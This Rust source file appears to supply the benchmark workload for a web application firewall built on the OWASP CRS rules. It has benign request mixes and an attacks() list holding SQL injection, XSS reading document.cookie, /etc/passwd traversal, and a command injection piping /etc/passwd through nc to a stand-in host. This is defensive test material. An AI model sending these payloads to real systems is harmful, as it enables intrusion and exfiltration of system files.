//! The workload of the WAF benchmarks, shared by `benches/crs.rs` (time) and
//! `examples/crs_instructions.rs` (instructions, under callgrind): CRS 3.3 from Debian in
//! blocking mode at a paranoia level, and the request mixes `bench/modsec-peer.c` sends
//! libmodsecurity.

#![allow(dead_code)] // Each user takes what it needs.

use qalxan_waf::{Plan, Request};
use std::path::Path;

pub const RULES: &str = "/usr/share/modsecurity-crs/rules";
pub const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";

#[allow(clippy::unwrap_used)] // A benchmark that cannot set up should stop loudly.
pub fn plan(paranoia: u8) -> Plan {
    let before = "SecRuleEngine On\nSecRequestBodyAccess On\n";
    let after = format!(
        "SecAction \"id:900100,phase:1,nolog,pass,setvar:tx.paranoia_level={paranoia},setvar:tx.executing_paranoia_level={paranoia}\"\n"
    );
    qalxan_waf::regression::load_crs(before, Path::new(SETUP), &after, Path::new(RULES)).unwrap()
}

pub fn request(method: &str, uri: &str, body: &str) -> Request {
    let mut headers = vec![
        ("Host".to_owned(), b"www.example.gov".to_vec()),
        (
            "User-Agent".to_owned(),
            b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".to_vec(),
        ),
        (
            "Accept".to_owned(),
            b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8".to_vec(),
        ),
        ("Accept-Language".to_owned(), b"en-US,en;q=0.5".to_vec()),
        ("Accept-Encoding".to_owned(), b"gzip, deflate, br".to_vec()),
        (
            "Cookie".to_owned(),
            b"session=8f14e45fceea167a5a36dedd4bea2543; lang=en".to_vec(),
        ),
        ("Connection".to_owned(), b"keep-alive".to_vec()),
    ];
    if !body.is_empty() {
        headers.push((
            "Content-Type".to_owned(),
            b"application/x-www-form-urlencoded".to_vec(),
        ));
        headers.push((
            "Content-Length".to_owned(),
            body.len().to_string().into_bytes(),
        ));
    }
    Request {
        method: method.as_bytes().to_vec(),
        uri: uri.as_bytes().to_vec(),
        protocol: b"HTTP/1.1".to_vec(),
        headers,
        body: body.as_bytes().to_vec(),
        remote_addr: "198.51.100.7".into(),
        remote_port: 51234,
        server_addr: "192.0.2.10".into(),
        server_port: 443,
    }
}

/// The request mixes (bench/modsec-peer.c sends the same).
pub fn benign() -> Vec<Request> {
    vec![
        request("GET", "/", ""),
        request(
            "GET",
            "/news/2026/11/budget-hearing.html?page=2&sort=date",
            "",
        ),
        request("GET", "/static/css/site.min.css?v=4.2.1", ""),
        request(
            "POST",
            "/search",
            "q=public+procurement+rules&year=2026&lang=en",
        ),
    ]
}

pub fn attacks() -> Vec<Request> {
    vec![
        request("GET", "/item.php?id=1%27%20OR%20%271%27%3D%271", ""),
        request(
            "GET",
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
            "",
        ),
        request("GET", "/download.php?file=..%2F..%2F..%2Fetc%2Fpasswd", ""),
        request(
            "POST",
            "/contact",
            "name=x&msg=%3Bcat+%2Fetc%2Fpasswd%7Cnc+198.51.100.1+4444",
        ),
    ]
}

/// The benign GET the issue sets its bound on.
pub fn benign_get() -> Request {
    request(
        "GET",
        "/news/2026/11/budget-hearing.html?page=2&sort=date",
        "",
    )
}

/// What `bench/gateway.sh` sends the gateway (wrk's two headers and the benign path), for
/// counting what the gateway's WAF does per request.
pub fn gateway_get() -> Request {
    let mut r = benign_get();
    r.headers = vec![
        ("Host".to_owned(), b"127.0.0.1:18084".to_vec()),
        (
            "User-Agent".to_owned(),
            b"Mozilla/5.0 (X11; Linux x86_64)".to_vec(),
        ),
        ("Accept".to_owned(), b"text/html".to_vec()),
    ];
    r.remote_addr = "127.0.0.1".into();
    r
}
